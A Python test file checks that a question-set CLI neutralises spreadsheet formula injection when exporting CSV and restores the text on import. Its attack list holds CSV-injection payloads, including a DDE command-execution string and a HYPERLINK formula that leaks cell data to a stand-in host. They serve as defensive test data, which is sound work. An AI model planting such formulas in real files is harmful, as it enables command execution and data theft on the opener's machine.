"""A CSV question set we write never holds a live spreadsheet formula: every cell starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading ``'`` (OWASP), import takes it off,
a cell that itself starts with quotes before such a character survives the round trip exactly, and an ordinary file
still comes back byte for byte."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from ragretrieval.cli import main
from ragretrieval.data.dataset import Provenance, QuestionRecord, read_jsonl, write_jsonl
from ragretrieval.data.importers.aperag import neutralise, read_aperag_csv, restore, write_aperag_csv

ATTACKS = ["=1+1", "@cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-5 度",
           "\tx", "\r=1", "=", "-"]
QUOTED = ["'=1+1", "''+x", "'''@y", "'-", "'plain", "'", "it's =fine"]
FORMULA_START = tuple("=+-@\t\r")


def invoke(*arguments, code=0):
    result = CliRunner().invoke(main, [str(a) for a in arguments])
    assert result.exit_code == code, result.output
    return result


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def questions_of(texts: list[str]) -> list[QuestionRecord]:
    return [QuestionRecord(id=f"q{i}", text=t, ground_truth=t, question_type="FACTUAL",
                           provenance=Provenance(generator="test")) for i, t in enumerate(texts)]


def test_cells_that_start_a_formula_are_written_neutralised_and_read_back(tmp_path):
    source = tmp_path / "questions.jsonl"
    write_jsonl(source, questions_of(ATTACKS + QUOTED))
    out = tmp_path / "set.csv"
    invoke("questions", "export", "--questions", source, "--format", "aperag-csv", "--out", out)
    written = [cell for row in cells(out.read_bytes()) for cell in row]
    assert not [cell for cell in written if cell.startswith(FORMULA_START)]
    for text in ATTACKS:
        assert written.count("'" + text) == 2  # question_text and ground_truth
    for text in QUOTED:
        wanted = "'" + text if text.lstrip("'").startswith(FORMULA_START) else text
        assert written.count(wanted) == 2, text
    again = tmp_path / "again.jsonl"
    invoke("questions", "import", out, "--format", "aperag-csv", "--out", again)
    back = read_jsonl(again, QuestionRecord)
    assert [q.text for q in back] == ATTACKS + QUOTED and [q.ground_truth for q in back] == ATTACKS + QUOTED
    twice = tmp_path / "twice.csv"
    invoke("questions", "export", "--questions", again, "--format", "aperag-csv", "--out", twice)
    assert twice.read_bytes() == out.read_bytes()


def test_an_ordinary_file_and_a_neutralised_one_come_back_byte_for_byte(tmp_path):
    ordinary = ("\ufeffquestion_type,question_text,ground_truth,备注\r\nFACTUAL,红烧肉要炖多久？,\"一小时,小火\",\r\n"
                "INFERENTIAL,Why 'blanch' first?,It's cleaner; 5 - 3 = 2,x\r\n").encode("utf-8")
    neutralised = ("\ufeffquestion_type,question_text,ground_truth\r\nFACTUAL,'=1+1,'@cmd\r\n"
                   "FACTUAL,''=quoted,'-5\r\n").encode("utf-8")
    for name, data in (("ordinary.csv", ordinary), ("neutralised.csv", neutralised)):
        (tmp_path / name).write_bytes(data)
        imported = tmp_path / f"{name}.jsonl"
        result = invoke("questions", "import", tmp_path / name, "--format", "aperag-csv", "--out", imported)
        assert "warning" not in result.stderr
        exported = invoke("questions", "export", "--questions", imported, "--format", "aperag-csv")
        assert exported.stdout_bytes == data, name
    back = read_jsonl(tmp_path / "neutralised.csv.jsonl", QuestionRecord)
    assert [(q.text, q.ground_truth) for q in back] == [("=1+1", "@cmd"), ("'=quoted", "-5")]


def test_a_live_formula_in_someone_elses_file_imports_as_text_and_exports_neutralised(tmp_path):
    (tmp_path / "live.csv").write_bytes(b"question_text,ground_truth\n=1+1,@SUM(A1)\n-2?,ok\n")
    result = invoke("questions", "import", tmp_path / "live.csv", "--format", "aperag-csv", "--out",
                    tmp_path / "q.jsonl")
    assert "3 cells start with =, +, -, @, a tab or a carriage return" in result.stderr
    assert [q.text for q in read_jsonl(tmp_path / "q.jsonl", QuestionRecord)] == ["=1+1", "-2?"]
    exported = invoke("questions", "export", "--questions", tmp_path / "q.jsonl", "--format", "aperag-csv")
    assert exported.stdout_bytes == b"question_text,ground_truth\n'=1+1,'@SUM(A1)\n'-2?,ok\n"


def test_the_header_and_other_columns_are_neutralised_too(tmp_path):
    (tmp_path / "cols.csv").write_bytes(b"question_text,ground_truth,'=note\nq?,a,'+1\n")
    invoke("questions", "import", tmp_path / "cols.csv", "--format", "aperag-csv", "--out", tmp_path / "q.jsonl")
    (question,) = read_jsonl(tmp_path / "q.jsonl", QuestionRecord)
    assert question.metadata["aperag"]["extra"] == {"=note": "+1"}
    exported = invoke("questions", "export", "--questions", tmp_path / "q.jsonl", "--format", "aperag-csv")
    assert exported.stdout_bytes == (tmp_path / "cols.csv").read_bytes()


@settings(deadline=None)  # timing is not what is tested (a busy machine must not fail it)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a,\"\n字"), max_size=8))
def test_import_undoes_export_for_every_cell(text):
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_START)


@settings(deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("'=+-@\t\r a,\"\n字"), max_size=8)
                .filter(lambda t: t.strip()), min_size=1, max_size=4))
def test_any_question_set_round_trips_through_a_csv_file(texts):
    data = write_aperag_csv(questions_of(texts))
    assert not [c for row in cells(data) for c in row if c.startswith(FORMULA_START)]
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "set.csv"
        path.write_bytes(data)
        back, _ = read_aperag_csv(path)
    assert [q.text for q in back] == texts and [q.ground_truth for q in back] == texts
    assert write_aperag_csv(back) == data
